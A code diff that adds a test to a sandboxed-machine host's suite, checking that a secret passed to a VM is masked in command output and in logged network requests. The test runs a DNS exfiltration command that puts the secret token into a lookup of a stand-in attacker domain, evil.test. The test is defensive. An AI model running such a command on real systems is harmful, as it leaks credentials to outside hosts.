@@ -324,6 +324,16 @@ def test_secrets_are_there_and_shown_to_nobody(host, source, tmp_path):
     assert holders([source], [host.cache], begin - 1) == []
 
 
+def test_a_secret_in_a_name_is_not_shown(host, tmp_path):
+    """What a machine asks for is shown, and its secrets could be in that."""
+    value = secrets.token_hex(12)
+    (tmp_path / "value").write_text(value)
+    with host.start(image="base", secrets={"TOKEN": {"file": str(tmp_path / "value")}}) as vm:
+        assert vm.run("getent hosts $TOKEN.evil.test; printenv TOKEN").stdout == "***\n"
+        assert [entry.host for entry in vm.network.requests] == ["***.evil.test"]
+        assert value not in f"{vm.network.requests}{vm.events}"
+
+
 SUITE = """
     import base64, os, urllib.parse, urllib.request, warnings
     from pathlib import Path
